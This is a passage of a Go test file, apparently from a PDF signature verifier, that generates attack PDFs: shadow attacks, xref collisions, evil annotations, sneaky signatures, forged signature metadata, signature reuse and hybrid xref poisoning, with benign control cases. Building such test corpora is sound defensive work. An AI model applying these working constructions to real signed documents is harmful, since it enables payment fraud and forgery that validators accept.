			d = newAttackDoc(baseSpec{extra: map[int]string{6: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"}})
			d.drFont = 6
		}
		d.sign(t, sigOpts{field: "Signature1", signer: k.signer})
		d.update(t, numBody{objFont, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type /Encoding /Differences [72 /P /a /y /space /M /a /l] >> >>"})
		return d.pdf
	}
}

// genShadowHideV2Restack is shadow "hide form via form" (RUB variant 2):
// two opaque widgets at one place, the upper one showing the signed
// amount; the update only reorders the page's /Annots so that the lower
// one is drawn on top. Under an approval signature annotations may change;
// this one is certified at P2, which permits form filling only.
func genShadowHideV2Restack(t *testing.T, k *attackKeys) []byte {
	widget := func(name string, ap int) string {
		return fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Tx /T (%s) /Ff 1 /F 4 /Rect [72 600 400 630] /P 3 0 R /MK << >> /AP << /N %d 0 R >> >>", name, ap)
	}
	opaque := func(text string) string {
		return stream("/Type /XObject /Subtype /Form /BBox [0 0 328 30] /Resources << /Font << /F1 5 0 R >> >>",
			"1 g 0 0 328 30 re f BT /F1 24 Tf 0 g 2 8 Td ("+text+") Tj ET")
	}
	d := newAttackDoc(baseSpec{
		extra:  map[int]string{6: widget("Lower", 7), 7: opaque("1,000,000 EUR"), 8: widget("Upper", 9), 9: opaque("100 EUR")},
		annots: []int{6, 8}, fields: []int{6, 8},
	})
	d.sign(t, sigOpts{field: "Certification", signer: k.signer, docMDP: 2})
	d.annots = []int{8, 6, d.annots[2]}
	d.update(t, numBody{objPage, d.page()})
	return d.pdf
}

// genShadowHideReplaceV1 is shadow hide-and-replace variant 1 (attacks.md
// 3.7): the signed body holds a second definition of the page content that
// the xref does not use; the update is an xref section alone, re-pointing
// object 4 to it.
func genShadowHideReplaceV1(t *testing.T, k *attackKeys) []byte {
	d := newAttackDoc(baseSpec{dup: map[int]string{objContent: stream("", "BT /F1 24 Tf 72 720 Td (Pay 1,000,000 EUR to Mallory) Tj ET")}})
	d.sign(t, sigOpts{field: "Signature1", signer: k.signer})
	return appendXRef(t, d.pdf, lastStartXRef(t, d.pdf), d.size, []xrefLine{{num: objContent, off: d.shadow[objContent]}}, "")
}

// genShadowHideReplaceV2 is shadow hide-and-replace variant 2 (attacks.md
// 3.7): the page lists two content streams, the second present but free
// when signed; the update, an xref section alone, frees the first and
// brings the second into use.
func genShadowHideReplaceV2(t *testing.T, k *attackKeys) []byte {
	d := newAttackDoc(baseSpec{
		contents: "[4 0 R 6 0 R]",
		extra:    map[int]string{6: stream("", "BT /F1 24 Tf 72 720 Td (Pay 1,000,000 EUR to Mallory) Tj ET")},
		free:     []int{6},
	})
	d.sign(t, sigOpts{field: "Signature1", signer: k.signer})
	return appendXRef(t, d.pdf, lastStartXRef(t, d.pdf), d.size, []xrefLine{
		{num: objContent, gen: 1, free: true},
		{num: 6, off: d.shadow[6]},
	}, "")
}

// genCollisionSharedOffset maps two object numbers to one offset (attacks.md
// 3.8): the page content and a new number both at a new "4 0 obj".
func genCollisionSharedOffset(t *testing.T, k *attackKeys) []byte {
	d := approvalSigned(t, k)
	other := d.alloc()
	out, lines := appendObjects(d.pdf, []numBody{{objContent, stream("", redBox)}})
	lines = append(lines, xrefLine{num: other, off: lines[0].off})
	return appendXRef(t, out, lastStartXRef(t, d.pdf), d.size, lines, "")
}

// genCollisionHeaderMismatch maps object 4 to an offset whose header says
// "K 0 obj" with K ≠ 4 (attacks.md 3.8).
func genCollisionHeaderMismatch(t *testing.T, k *attackKeys) []byte {
	d := approvalSigned(t, k)
	other := d.alloc()
	out, lines := appendObjects(d.pdf, []numBody{{other, stream("", redBox)}})
	lines[0].num = objContent
	return appendXRef(t, out, lastStartXRef(t, d.pdf), d.size, lines, "")
}

// ---- EAA and SSA, attacks.md 1.3 and 3.4, 3.5 -------------------------------

// evilAppearance is the Form XObject an evil annotation or sneaky
// signature draws over the visible text.
func evilAppearance() string {
	return stream("/Type /XObject /Subtype /Form /BBox [0 0 340 50] /Resources << /Font << /F1 5 0 R >> >>", fakeText)
}

// genEAA is the Evil Annotation Attack (attacks.md 3.4) on a document
// certified at level p: a FreeText annotation over the visible text whose
// appearance paints a white box and other words. stealth adds the flags
// that keep it out of a reviewer's way (ReadOnly, Locked, LockedContents)
// and empty /NM and /T.
func genEAA(p int, stealth bool) attackGen {
	return func(t *testing.T, k *attackKeys) []byte {
		d := certified(t, k, p)
		annot, ap := d.alloc(), d.alloc()
		flags, more := 4, ""
		if stealth {
			flags, more = 4|64|128|512, " /NM () /T ()"
		}
		d.annots = append(d.annots, annot)
		d.update(t,
			numBody{objPage, d.page()},
			numBody{annot, fmt.Sprintf("<< /Type /Annot /Subtype /FreeText /Rect %s /Contents (Pay Mallory) /DA (/F1 24 Tf 0 g) /F %d%s /P 3 0 R /AP << /N %d 0 R >> >>", rectOverText, flags, more, ap)},
			numBody{ap, evilAppearance()})
		return d.pdf
	}
}

// genSSASigned is the Sneaky Signature Attack (attacks.md 3.5, "real SSA")
// under P2: a new signature field whose visible appearance paints over the
// text, signed by the attacker's own key in the same revision.
func genSSASigned(t *testing.T, k *attackKeys) []byte {
	d := certified(t, k, 2)
	d.sign(t, sigOpts{field: "Approval", signer: k.attacker, rect: rectOverText, ap: fakeText})
	return d.pdf
}

// genSSAUnsigned adds the sneaky signature field without signing it
// (attacks.md 3.5, the unsigned version); inFields false is the stealth
// variant that lists the widget in /Annots only.
func genSSAUnsigned(inFields bool) attackGen {
	return func(t *testing.T, k *attackKeys) []byte {
		d := certified(t, k, 2)
		field, ap := d.alloc(), d.alloc()
		d.annots = append(d.annots, field)
		if inFields {
			d.fields = append(d.fields, field)
		}
		d.update(t,
			numBody{objCatalog, d.catalog()},
			numBody{objPage, d.page()},
			numBody{field, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Sig /T (Approval) /F 4 /Rect %s /P 3 0 R /AP << /N %d 0 R >> >>", rectOverText, ap)},
			numBody{ap, evilAppearance()})
		return d.pdf
	}
}

// genSSABogusValue is the sneaky signature of RUB's PDF-Tester examples:
// the new signature field's /V is its own appearance stream, not a
// signature dictionary, so it looks signed to a check that only asks
// whether /V is present (attacks.md 1.3, SSA).
func genSSABogusValue(t *testing.T, k *attackKeys) []byte {
	d := certified(t, k, 2)
	field, ap := d.alloc(), d.alloc()
	d.annots = append(d.annots, field)
	d.fields = append(d.fields, field)
	d.update(t,
		numBody{objCatalog, d.catalog()},
		numBody{objPage, d.page()},
		numBody{field, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Sig /T (Approval) /V %d 0 R /F 4 /Rect %s /P 3 0 R /AP << /N %d 0 R >> >>", ap, rectOverText, ap)},
		numBody{ap, evilAppearance()})
	return d.pdf
}

// ---- Signature dictionary spoofing and reuse, attacks.md 1.4 and 3.6 -------

// forged rewrites the metadata of a signature dictionary body, keeping
// /ByteRange and /Contents.
func forged(body string) string {
	body = strings.Replace(body, "/M (D:20261123101500+02'00')", "/M (D:20261122101500+02'00') /Reason (FORGED REASON) /Location (FORGED LOCATION) /Name (Forged Name)", 1)
	return body
}

// genSpoofRedefine redefines the signature dictionary with identical
// /ByteRange and /Contents but forged /Reason, /M and /Name (attacks.md 3.6).
func genSpoofRedefine(t *testing.T, k *attackKeys) []byte {
	d := approvalSigned(t, k)
	d.update(t, numBody{d.lastSig, forged(objectBody(t, d.pdf, d.lastSig))})
	return d.pdf
}

// genSpoofNewField is the alternative of attacks.md 3.6: a new field whose
// /V is a new dictionary copying the old values with forged metadata, and
// the old field removed from /Fields and the page.
func genSpoofNewField(t *testing.T, k *attackKeys) []byte {
	d := approvalSigned(t, k)
	oldField := d.fields[len(d.fields)-1]
	sig, field := d.alloc(), d.alloc()
	d.fields = []int{field}
	d.annots = []int{field}
	d.update(t,
		numBody{objCatalog, d.catalog()},
		numBody{objPage, d.page()},
		numBody{sig, forged(objectBody(t, d.pdf, d.lastSig))},
		numBody{field, strings.Replace(objectBody(t, d.pdf, oldField), fmt.Sprintf("/V %d 0 R", d.lastSig), fmt.Sprintf("/V %d 0 R", sig), 1)})
	return d.pdf
}

// genSignatureReuse adds a visible field whose /V is the existing signature
// dictionary (pyHanko's recycled signature, attacks.md 1.4).
func genSignatureReuse(t *testing.T, k *attackKeys) []byte {
	d := approvalSigned(t, k)
	field, ap := d.alloc(), d.alloc()
	d.fields = append(d.fields, field)
	d.annots = append(d.annots, field)
	d.update(t,
		numBody{objCatalog, d.catalog()},
		numBody{objPage, d.page()},
		numBody{field, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Sig /T (Approval) /V %d 0 R /F 4 /Rect %s /P 3 0 R /AP << /N %d 0 R >> >>", d.lastSig, rectOverText, ap)},
		numBody{ap, evilAppearance()})
	return d.pdf
}

// ---- Hybrid xref poisoning, attacks.md 1.4 ---------------------------------

// xrefStream is an uncompressed xref stream object mapping each of lines
// (in use, type 1) with /W [1 4 2].
func xrefStream(num, size int, lines []xrefLine) string {
	var data []byte
	index := ""
	for _, l := range lines {
		index += fmt.Sprintf("%d 1 ", l.num)
		data = append(data, 1, byte(l.off>>24), byte(l.off>>16), byte(l.off>>8), byte(l.off), 0, 0)
	}
	return fmt.Sprintf("%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%s] /Length %d >>\nstream\n%s\nendstream\nendobj\n",
		num, size, strings.TrimSpace(index), len(data), data)
}

// genHybridXRefStm is hybrid xref poisoning (pyHanko's hybrid sneaky edit):
// an update whose xref table only touches the document information, while
// the /XRefStm stream of the same update re-maps the page content to a new
// body. A reader that ignores /XRefStm sees a harmless update.
// conflict also lists object 4 in the table with its old body restated, so
// that the table and the stream disagree.
func genHybridXRefStm(conflict bool) attackGen {
	return func(t *testing.T, k *attackKeys) []byte {
		d := approvalSigned(t, k)
		info, xs := d.alloc(), d.alloc()
		out, lines := appendObjects(d.pdf, []numBody{{info, "<< /Producer (verso test) >>"}, {objContent, stream("", "BT /F1 24 Tf 72 720 Td (Pay 1,000,000 EUR to Mallory) Tj ET")}})
		table, hidden := lines[:1], lines[1:]
		if conflict {
			var restated []xrefLine
			out, restated = appendObjects(out, []numBody{{objContent, stream("", visibleText)}})
			table = append(table, restated...)
		}
		at := len(out)
		out = append(out, xrefStream(xs, d.size, hidden)...)
		return appendXRef(t, out, lastStartXRef(t, d.pdf), d.size, table, fmt.Sprintf(" /Info %d 0 R /XRefStm %d", info, at))
	}
}

// ---- Benign twins -----------------------------------------------------------

// genSecondSignature is the benign twin of ISA and SSA: a second, invisible
// approval signature after the first (p > 0: after a certification at p).
func genSecondSignature(p int) attackGen {
	return func(t *testing.T, k *attackKeys) []byte {
		d := plainBase()
		d.sign(t, sigOpts{field: "Signature1", signer: k.signer, docMDP: p})
		d.sign(t, sigOpts{field: "Signature2", signer: k.attacker})
		return d.pdf
	}
}

// genLTV is the benign twin of the shadow and ISA updates: a PAdES LTV
// update adding a DSS with the signer's certificate (p > 0: after a
// certification at p; PAdES permits it even at P1).
func genLTV(p int) attackGen {
	return func(t *testing.T, k *attackKeys) []byte {
		d := plainBase()
		d.sign(t, sigOpts{field: "Signature1", signer: k.signer, docMDP: p})
		d.dss = d.alloc()
		cert := d.alloc()
		d.update(t,
			numBody{objCatalog, d.catalog()},
			numBody{d.dss, fmt.Sprintf("<< /Type /DSS /Certs [%d 0 R] >>", cert)},
			numBody{cert, stream("", string(k.signer.cert.Raw))})
		return d.pdf
	}
}

// genFormFill is the benign twin of shadow replace variant 1: the same
// fill of a field no signature locks (p > 0: after a certification at p).
func genFormFill(p int) attackGen {
	return func(t *testing.T, k *attackKeys) []byte {
		d := amountBase()
		d.sign(t, sigOpts{field: "Signature1", signer: k.signer, docMDP: p})
		fillAmount(t, d, "120 EUR")
		return d.pdf
	}
}

// genAnnotationP3 is the benign twin of EAA: a sticky note in an empty
// corner of a document certified at P3.
func genAnnotationP3(t *testing.T, k *attackKeys) []byte {
	d := certified(t, k, 3)
	annot := d.alloc()
	d.annots = append(d.annots, annot)
	d.update(t,
		numBody{objPage, d.page()},
		numBody{annot, "<< /Type /Annot /Subtype /Text /Rect " + rectCorner + " /Contents (Looks good) /T (Reviewer) /Name /Comment /F 4 /P 3 0 R >>"})
	return d.pdf
}

// genDocTimestamp is a PAdES document timestamp after a signature (p > 0:
// after a certification at p).
func genDocTimestamp(p int) attackGen {
	return func(t *testing.T, k *attackKeys) []byte {
		d := plainBase()
		d.sign(t, sigOpts{field: "Signature1", signer: k.signer, docMDP: p})
		d.sign(t, sigOpts{field: "Timestamp1", timestamp: k.tsa})
		return d.pdf
	}
}
